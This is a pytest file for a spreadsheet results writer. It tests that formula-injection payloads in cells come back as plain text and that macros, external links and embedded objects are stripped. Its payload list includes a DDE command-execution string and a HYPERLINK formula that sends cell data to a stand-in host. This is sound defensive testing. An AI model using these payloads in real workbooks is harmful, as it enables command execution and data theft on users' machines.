"""What a stranger's workbook may hold, and what of it must not come along; what is not understood is left alone."""

from __future__ import annotations

import io
import random
import re
import zipfile
from typing import TYPE_CHECKING

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from loader.errors import LoaderError
from loader.model.attempt import Attempt
from loader.model.row import Outcome, Problem, Severity, Status
from loader.workbook.writer import in_place
from loader.workbook.writer.result_cells import Results
from loader.workbook.writer.results import write_results
from tests.sheets import row, write_workbook
from tests.workbook.formatted import read, results_from, rows_with_faults, write_formatted
from tests.workbook.packages import SHEET, Change, changed, everything_in
from tests.workbook.raw import unescaped
from tests.workbook.results_made import SUMMARY, rows_of

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from loader.workbook.ooxml.unfit import Ending

OTHER = "xl/worksheets/sheet2.xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def formatted(tmp_path: Path) -> Path:
    return write_formatted(tmp_path / "spring.xlsx", rows_with_faults())


@pytest.fixture
def was_kept(monkeypatch: pytest.MonkeyPatch) -> list[bool]:
    """For each results written, whether the user's own workbook was kept."""
    told: list[bool] = []
    write = in_place.write_in_place

    def told_of(*args: object) -> Ending:
        ending = write(*args)  # type: ignore[arg-type]
        told.append(bool(ending))
        return ending

    monkeypatch.setattr("loader.workbook.writer.results.write_in_place", told_of)
    return told


def related(kind: str, target: str, *, external: bool = False) -> Callable[[bytes], bytes]:
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="x1" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    return lambda xml: xml.replace(b"</Relationships>", line.encode())


def swapped(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        assert old in xml
        return xml.replace(old, new, 1)

    return change


def formulas_in(path: Path) -> list[str]:
    return [
        name
        for name, xml in everything_in(path).items()
        if name.startswith("xl/worksheets/") and re.search(rb"<f[ >/]", xml)
    ]


# Formulas

PAYLOADS = [
    f"{lead}{text}"
    for lead in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=\x00", "'=", "\uff1d", "_x003D_", "&#61;", "<f>", "%")
    for text in (
        *("1+1", "cmd|'/c calc'!A0", 'HYPERLINK("http://x.example?"&A1)', "SUM(A1:A9)", "A1", "{1}", "[1]S!A1"),
        *("WEBSERVICE(A1)", "1+1</f><v>", "]]>", "-2+3", "#REF!", "15101234567", 'DDE("a";"b";"c")'),
    )
]


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


def test_no_payload_in_any_column_becomes_a_formula_and_all_come_back_as_they_were(
    tmp_path: Path, was_kept: list[bool]
) -> None:
    headers = list(row("Recall"))
    book = Workbook()
    page = book.worksheets[0]
    page.title = "Campaigns"
    page.append(headers)
    for number, payload in enumerate(PAYLOADS, 2):
        for column in range(1, len(headers) + 1):
            cell = page.cell(number, column)
            cell.value = "text"
            assert isinstance(cell, Cell)
            cell._value, cell.data_type = payload.replace("\x00", "_x0000_"), "s"  # type: ignore[attr-defined]
    book.save(tmp_path / "payloads.xlsx")
    content, sheet = read(tmp_path / "payloads.xlsx")
    rows = range(2, len(PAYLOADS) + 2)
    typed = {number: [str(it) for it in sheet.cells[number - 1]] for number in rows}
    outcomes = [
        Outcome(
            it, text, Status.REJECTED, attempt=Attempt(message=text, campaign_id=text, campaign_status=text), run=text
        )
        for it, text in zip(rows, PAYLOADS, strict=True)
    ]
    problems = [Problem(it, 2, text, text, text, text, Severity.WARNING) for it, text in zip(rows, PAYLOADS)]  # noqa: B905
    path = write_results(tmp_path / "results.xlsx", Results([sheet], outcomes, problems, SUMMARY), content).path
    assert was_kept == [True]
    assert formulas_in(path) == []
    results = load_workbook(path)
    for sheet_of in results.worksheets:
        assert {cell.data_type for line in sheet_of.iter_rows() for cell in line} <= {"s", "n"}
    lines = [[unescaped(str(it)) for it in line] for line in rows_of(results, "Campaigns")]
    assert {number: lines[number - 1][: len(headers)] for number in rows} == typed
    for number, payload in zip(rows, PAYLOADS, strict=True):
        assert lines[number - 1][len(headers) + 1 : len(headers) + 4] == [payload] * 3
        assert lines[number - 1][len(headers) + 7] == payload


def test_every_code_point_of_a_servers_message_survives(formatted: Path, tmp_path: Path, was_kept: list[bool]) -> None:
    content, sheet = read(formatted)
    blocks = ["".join(map(chr, range(first, first + 0x2000))) for first in range(0, 0x110000, 0x2000)]
    for first in range(0, len(blocks), 4):
        outcomes = [
            Outcome(it, "n", Status.REJECTED, attempt=Attempt(message=text))
            for it, text in enumerate(blocks[first : first + 4], 2)
        ]
        path = write_results(tmp_path / "results.xlsx", Results([sheet], outcomes, [], SUMMARY), content).path
        shown = [unescaped(str(line[16])) for line in rows_of(load_workbook(path), "Campaigns")[1:]]
        assert shown == blocks[first : first + 4]
    assert set(was_kept) == {True}


def test_formulas_of_the_sheet_come_back_as_the_values_that_were_read(
    formatted: Path, tmp_path: Path, was_kept: list[bool]
) -> None:
    changed(
        formatted,
        {
            SHEET: lambda xml: re.sub(
                rb'<c r="(I2|M2|M3|M4)"( s="\d+")[^>]*>.*?</c>',
                lambda found: (
                    {
                        b"I2": b'<c r="I2"%b><f>1+2</f><v>3</v></c>',
                        b"M2": b'<c r="M2"%b t="str"><f t="shared" ref="M2:M3" si="0">A2&amp;"!"</f><v>Recall!</v></c>',
                        b"M3": b'<c r="M3"%b t="str" cm="1"><f t="shared" si="0"/><v>Renewal!</v></c>',
                        b"M4": b"<c r=\"M4\"%b><f>cmd|'/c calc'!A0</f></c>",
                    }[found[1]]
                    % found[2]
                ),
                xml,
            )
        },
    )
    path = results_from(formatted, tmp_path)
    assert was_kept == [True]
    assert formulas_in(path) == [OTHER]
    page = load_workbook(path)["Campaigns"]
    assert [page[it].value for it in ("I2", "M2", "M3", "M4")] == [3, "Recall!", "Renewal!", "#N/A"]
    assert page["M4"].data_type == "e"
    assert b"cm=" not in everything_in(path)[SHEET]


def test_a_zero_that_was_never_calculated_is_not_what_the_results_have_for_a_formula(
    formatted: Path, tmp_path: Path, was_kept: list[bool]
) -> None:
    cells = {b"I2": b"<f>1+2</f><v>0</v>", b"I3": b"<f>1+2</f><v>3</v>", b"I4": b"<v>0</v>"}
    changed(
        formatted,
        {
            SHEET: lambda xml: re.sub(
                rb'<c r="(I[234])"( s="\d+")[^>]*>.*?</c>',
                lambda found: b'<c r="%b"%b>%b</c>' % (found[1], found[2], cells[found[1]]),
                xml,
            )
        },
    )
    path = results_from(formatted, tmp_path)
    assert was_kept == [True]
    page = load_workbook(path)["Campaigns"]
    assert [page[place].value for place in ("I2", "I3", "I4")] == ["#N/A", 3, 0]
    [lost] = [line for line in rows_of(load_workbook(path), "Problems") if line[1] == "I2"]
    assert lost[3:5] == ["=1+2", "is a formula whose result was not saved"]


@pytest.mark.parametrize("formula", [b"[1]Prices!A1", b"cmd|'/c calc'!A0", b'WEBSERVICE("http://x.example")'])
def test_what_reaches_out_of_another_sheet_is_a_value_there(
    formula: bytes, formatted: Path, tmp_path: Path, was_kept: list[bool]
) -> None:
    changed(
        formatted,
        {OTHER: swapped(b"</sheetData>", b'<row r="9"><c r="A9"><f>%b</f><v>7</v></c></row></sheetData>' % formula)},
    )
    path = results_from(formatted, tmp_path)
    assert was_kept == [True]
    assert formulas_in(path) == []
    assert load_workbook(path)["Notes"]["A9"].value == 7
    told = "sheet 'Notes' has the saved values of its formulas only, as some of them reach out of the workbook"
    assert told in str(rows_of(load_workbook(path), "Summary"))


# Other things that run or reach out


def test_macros_and_links_and_connections_stay_behind(formatted: Path, tmp_path: Path, was_kept: list[bool]) -> None:
    macro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    changed(
        formatted,
        {
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 code",
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/connections.xml": b"<connections/>",
            "customXml/item1.xml": b"<DataMashup/>",
            "[Content_Types].xml": lambda xml: xml.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", macro.encode()
            ).replace(
                b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            ),
            "xl/_rels/workbook.xml.rels": lambda xml: b"".join(
                [
                    xml.replace(b"</Relationships>", b""),
                    *(
                        f'<Relationship Id="x{n}" Type="{RELATIONS}/{kind}" Target="{target}"/>'.encode()
                        for n, (kind, target) in enumerate(
                            [
                                ("vbaProject", "vbaProject.bin"),
                                ("externalLink", "externalLinks/externalLink1.xml"),
                                ("connections", "connections.xml"),
                                ("customXml", "../customXml/item1.xml"),
                            ]
                        )
                    ),
                    b"</Relationships>",
                ]
            ),
            "xl/workbook.xml": lambda xml: xml.replace(
                b"</sheets>", b'</sheets><externalReferences><externalReference r:id="x1"/></externalReferences>'
            ).replace(b"<definedNames>", b'<definedNames><definedName name="Prices">[1]Prices!$A$1</definedName>'),
        },
    )
    path = results_from(formatted.rename(tmp_path / "spring.xlsm"), tmp_path)
    assert was_kept == [True]
    parts = everything_in(path)
    assert not [name for name in parts if re.search("vba|externalLink|connection|customXml", name)]
    for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
        assert not re.search(rb"macroEnabled|vba|external|connection|\[1\]", parts[name]), name
    assert rows_of(load_workbook(path), "Campaigns")[1][13] == "Created"


def whole_sheet(change: Callable[[bytes], bytes]) -> dict[str, Change]:
    return {SHEET: change}


RELS = "xl/worksheets/_rels/sheet1.xml.rels"
UNFIT: dict[str, dict[str, Change]] = {
    "an embedded object": {RELS: related("oleObject", "../embeddings/o.bin"), "xl/embeddings/o.bin": b"x"},
    "a picture from the network": {RELS: related("image", "http://x.example/p.png", external=True)},
    "a query": {RELS: related("queryTable", "../queryTables/q.xml"), "xl/queryTables/q.xml": b"<queryTable/>"},
    "an unknown relation": {RELS: related("rocket", "../rocket.xml"), "xl/rocket.xml": b"<rocket/>"},
    "another namespace": whole_sheet(swapped(b"spreadsheetml/2006/main", b"spreadsheetml/2017/main")),
    "prefixed names": whole_sheet(
        lambda xml: re.sub(rb"<(/?)(\w)", rb"<\1x:\2", xml).replace(b' xmlns="', b' xmlns:x="', 1)
    ),
    "rows without numbers": whole_sheet(lambda xml: re.sub(rb'<row r="\d+"', b"<row", xml)),
    "cells without addresses": whole_sheet(lambda xml: re.sub(rb'<c r="B\d+"', b"<c", xml)),
    "a comment among the rows": whole_sheet(swapped(b"<sheetData>", b"<sheetData><!-- -->")),
    "a comment before the rows": whole_sheet(swapped(b"<sheetData>", b"<!-- <sheetData> --><sheetData>")),
    "rows out of order": whole_sheet(lambda xml: xml.replace(b'<row r="2"', b'<row r="9"', 1)),
    "cells out of order": whole_sheet(
        lambda xml: re.sub(rb'(<c r="A2".*?</c>)(<c r="B2".*?</c>)', rb"\2\1", xml, count=1)
    ),
    "an unknown element": whole_sheet(swapped(b"<pageMargins", b"<rocket/><pageMargins")),
    "a look that is not there": whole_sheet(lambda xml: re.sub(rb'<c r="I3" s="\d+"', b'<c r="I3" s="999"', xml)),
    "no looks": {"xl/_rels/workbook.xml.rels": lambda xml: re.sub(rb"<Relationship [^>]*styles.xml[^>]*>", b"", xml)},
    "looks without a base": {
        "xl/styles.xml": lambda xml: re.sub(rb"<cellStyleXfs.*</cellStyleXfs>", b"", xml, flags=re.DOTALL)
    },
    "broken looks": {"xl/styles.xml": lambda xml: xml[:-20]},
    "a broken sheet beside it": {"xl/comments/comment1.xml": b"<comments"},
    "a chart of another workbook": {"xl/charts/chart1.xml": lambda xml: re.sub(rb"<(\w*:?)f>", rb"<\1f>[1]", xml)},
    "a button with a macro": {
        "xl/drawings/commentsDrawing1.vml": lambda xml: xml.replace(
            b"</xml>", b"<x:FmlaMacro>[0]!Go</x:FmlaMacro></xml>"
        )
    },
}


@pytest.mark.parametrize("what", UNFIT)
def test_what_could_be_damaged_on_the_way_is_not_touched_and_the_values_go_into_a_fresh_workbook(
    what: str, formatted: Path, tmp_path: Path, was_kept: list[bool]
) -> None:
    content, sheet = read(formatted)
    content = changed(formatted, UNFIT[what]).read_bytes()
    outcomes = [Outcome(number, "n", Status.CREATED, attempt=Attempt(campaign_id="cd")) for number in range(2, 6)]
    problem = Problem(3, 9, "Max attempts", "0", "is below 1")
    path = write_results(tmp_path / "results.xlsx", Results([sheet], outcomes, [problem], SUMMARY), content).path
    assert was_kept == [False]
    book = load_workbook(path)
    assert book.sheetnames == ["Campaigns", "Problems", "Summary"]
    assert [line[0] for line in rows_of(book, "Campaigns")[1:]] == ["Recall", "Renewal", "Survey", "Winback"]
    assert [line[13] for line in rows_of(book, "Campaigns")[1:]] == ["Created"] * 4


def test_a_row_that_is_not_in_the_file_is_never_left_out(formatted: Path, tmp_path: Path, was_kept: list[bool]) -> None:
    content, sheet = read(formatted)
    outcomes = [Outcome(99, "n", Status.CREATED)]
    write_results(tmp_path / "results.xlsx", Results([sheet], outcomes, [], SUMMARY), content)
    assert was_kept == [False]


def test_a_fresh_workbook_fed_back_is_kept_from_then_on(tmp_path: Path, was_kept: list[bool]) -> None:
    (tmp_path / "spring.csv").write_text(
        "Campaign name,Description,Contact lists,Caller ID,Timezone,Monday,Max attempts,Retry period,Ring time,Flow\n"
        "Recall,Calls,north,+15101234567,UTC,9-17,0,60,30,Intake\n"
    )
    first = results_from(tmp_path / "spring.csv", tmp_path)
    book = load_workbook(first)
    assert book["spring"]["G2"].fill.fgColor.rgb == "00F8CBAD"
    book["spring"]["G2"], book["spring"]["F2"] = 3, "9:00 - 17:00"
    book.save(tmp_path / "corrected.xlsx")
    again = load_workbook(results_from(tmp_path / "corrected.xlsx", tmp_path))
    assert was_kept == [False, True]
    assert again.sheetnames == ["spring", "Problems", "Summary"]
    assert again["spring"]["K2"].value == "Created"
    assert (again["spring"]["G2"].fill.fill_type, again["spring"]["G2"].comment) == (None, None)


# Mutants

_PIECE = re.compile(rb'<[^<>]*>|"[^"<>]*"')


def mutated(xml: bytes, chance: random.Random) -> bytes:
    """The part with a tag or a value of it left out, doubled, or put in another's place."""
    pieces = list(_PIECE.finditer(xml))
    one, other = chance.choice(pieces), chance.choice(pieces)
    instead = chance.choice((b"", one[0] * 2, other[0], b'"-1"', b'"99999999999"', b'"A1"', b"<x/>"))
    return xml[: one.start()] + instead + xml[one.end() :]


@pytest.mark.parametrize("seed", [pytest.param(it, marks=pytest.mark.slow) if it else it for it in range(6)])
def test_no_mutant_stops_the_results_or_gets_a_formula_into_the_sheet(
    seed: int, formatted: Path, tmp_path: Path
) -> None:
    chance = random.Random(seed)  # noqa: S311 - no secret
    _, sheet = read(formatted)
    original = everything_in(formatted)
    names = sorted(name for name in original if name.endswith((".xml", ".rels", ".vml")) and "theme" not in name)
    outcomes = [Outcome(number, "n", Status.CREATED, attempt=Attempt(campaign_id="cd")) for number in range(2, 6)]
    told = Results([sheet], outcomes, [Problem(3, 9, "Max attempts", "0", "is below 1")], SUMMARY)
    for _ in range(40):
        name = chance.choice(names)
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as package:
            for part, xml in {**original, name: mutated(original[name], chance)}.items():
                package.writestr(part, xml)
        path = write_results(tmp_path / "results.xlsx", told, made.getvalue()).path
        assert SHEET not in formulas_in(path)
        path.unlink()


def test_a_mutant_is_read_or_refused_by_the_loader_as_well(formatted: Path, tmp_path: Path) -> None:
    """Results of workbooks that the reader takes are workbooks that it takes."""
    chance = random.Random(1)  # noqa: S311 - no secret
    original = everything_in(formatted)
    for _ in range(40):
        changed(formatted, {SHEET: mutated(original[SHEET], chance)})
        try:
            _, sheet = read(formatted)
        except LoaderError:
            continue
        _, again = read(results_from(formatted, tmp_path))
        assert [draft.values for draft in again.drafts] == [draft.values for draft in sheet.drafts]


def test_the_sheet_asked_for_is_the_one_that_is_filled(tmp_path: Path, was_kept: list[bool]) -> None:
    def second(book: Workbook) -> None:
        book.move_sheet("Notes", -1)
        page = book["Campaigns"]
        assert isinstance(page, Worksheet)
        page.title = "It's <spring> & more"
        page._charts.clear()  # type: ignore[attr-defined]

    path = write_formatted(tmp_path / "spring.xlsx", [row("Recall")], second)
    results = load_workbook(results_from(path, tmp_path))
    assert was_kept == [True]
    assert results.sheetnames == ["Notes", "It's <spring> & more", "Problems", "Summary"]
    assert results.worksheets[1].auto_filter.ref == "A1:T2"


def test_a_plain_workbook_without_anything_special_is_kept(tmp_path: Path, was_kept: list[bool]) -> None:
    results_from(write_workbook(tmp_path / "plain.xlsx", [row("Recall"), row("Renewal", Max_attempts=0)]), tmp_path)
    assert was_kept == [True]
